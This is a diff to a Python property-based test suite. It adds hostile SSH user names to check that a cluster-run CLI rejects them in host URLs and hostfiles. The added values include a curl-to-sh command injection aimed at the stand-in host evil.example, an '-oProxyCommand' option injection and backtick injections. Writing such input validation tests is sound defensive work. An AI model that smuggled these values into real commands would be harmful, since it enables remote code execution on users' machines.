@@ -40,6 +40,9 @@ SEGMENT = st.text(alphabet="abcxyz09_-", min_size=1, max_size=6)
 BIG_TIMEOUT = st.one_of(st.integers(604801, 10**18), st.sampled_from([1e14, 1e300, float("inf")]))
 NOT_UTF8 = st.binary(min_size=1, max_size=4).filter(lambda b: not _utf8(b))
 BAD_IMAGE = st.sampled_from(["no such/IMAGE::x", "r/x:1 --privileged", "x::y", "a b", "x:y:z", "-x", "x@sha256:z"])
+BAD_USER = st.sampled_from(
+    ["$(curl${IFS}-s${IFS}evil.example|sh)", "-oProxyCommand=x", "a;b", "`id`", "u'x", "a$b", "\u00e9t\u00e9", "a|b"]
+)
 SPELLINGS = st.sampled_from(
     [str, lambda ip: str(int(ip)), lambda ip: hex(int(ip)), lambda ip: f"[::ffff:{ip}]", lambda ip: f"{ip}."]
 )
@@ -238,6 +241,18 @@ HOSTILE: dict[str, st.SearchStrategy[Any]] = {
     ),
     "hosts_url": st.sampled_from(["ssh://u@[::1", "ssh://@host", "ssh://u@[::1:22", "ssh://@10.0.0.1:22"]).map(
         lambda url: (["run", "--dry-run"], {**BASE, "hosts": [url, "ssh://x@h2"]}, "host 0", None)
+    ),
+    # Review 2026-12 N15: a user name that a shell runs, printed inside the Fix commands a user pastes.
+    "hosts_user": BAD_USER.map(
+        lambda u: (["run", "--dry-run"], {**BASE, "hosts": [f"ssh://{u}@10.0.0.1", "ssh://x@h2"]}, "host 0", None)
+    ),
+    "hostfile_user": BAD_USER.map(
+        lambda u: (
+            ["run", "--dry-run", "--hostfile", "hostfile"],
+            BASE,
+            "host 1",
+            _file("hostfile", f"10.0.0.1 slots=1\n{u}@10.0.0.2 slots=1\n"),
+        )
     ),
     "image_flag": st.tuples(NODE_ARGV, BAD_IMAGE).map(
         lambda ai: ([*ai[0][:-1], ai[1]], BASE, "is not an image reference", None)
